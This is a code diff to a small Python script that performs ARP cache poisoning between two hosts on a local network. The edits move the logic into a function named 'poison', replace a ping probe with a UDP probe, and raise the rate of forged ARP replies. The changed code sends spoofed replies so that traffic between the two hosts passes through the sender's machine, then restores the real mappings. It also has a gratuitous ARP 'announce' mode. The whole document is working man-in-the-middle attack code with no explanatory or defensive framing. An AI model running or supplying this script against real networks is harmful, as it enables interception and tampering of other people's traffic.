@@ -5,31 +5,36 @@
 """
 
 import socket
-import subprocess
 import sys
+import time
 
 from plantclock import Ticker
 from rawlink import arp, link, own_mac, packed
 
 
 def mac_of(address: str) -> bytes:
-    subprocess.run(["ping", "-c", "1", "-W", "1", address], capture_output=True, check=False)
+    """From the kernel's ARP table, after it has asked."""
     with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as asked:
         asked.sendto(b"", (address, 9))
+    time.sleep(0.3)
     for line in open("/proc/net/arp").readlines()[1:]:  # noqa: SIM115
         if line.split()[0] == address and line.split()[3] != "00:00:00:00:00:00":
             return packed(line.split()[3])
     raise SystemExit(f"{address} has no hardware address")
 
 
-raw, mine = link(), own_mac()
-if sys.argv[1] == "announce":
-    raw.send(arp(1, (mine, sys.argv[2]), (bytes(6), sys.argv[2])))
-else:
-    a, b = sys.argv[2], sys.argv[3]
+def poison(a: str, b: str, seconds: float) -> None:
+    raw, mine = link(), own_mac()
     known = {a: mac_of(a), b: mac_of(b)}
-    for _ in Ticker(2, float(sys.argv[4])):
+    for _ in Ticker(10, seconds):
         raw.send(arp(2, (mine, b), (known[a], a)))
         raw.send(arp(2, (mine, a), (known[b], b)))
     raw.send(arp(2, (known[b], b), (known[a], a)))
     raw.send(arp(2, (known[a], a), (known[b], b)))
+
+
+if __name__ == "__main__":
+    if sys.argv[1] == "announce":
+        link().send(arp(1, (own_mac(), sys.argv[2]), (bytes(6), sys.argv[2])))
+    else:
+        poison(sys.argv[2], sys.argv[3], float(sys.argv[4]))
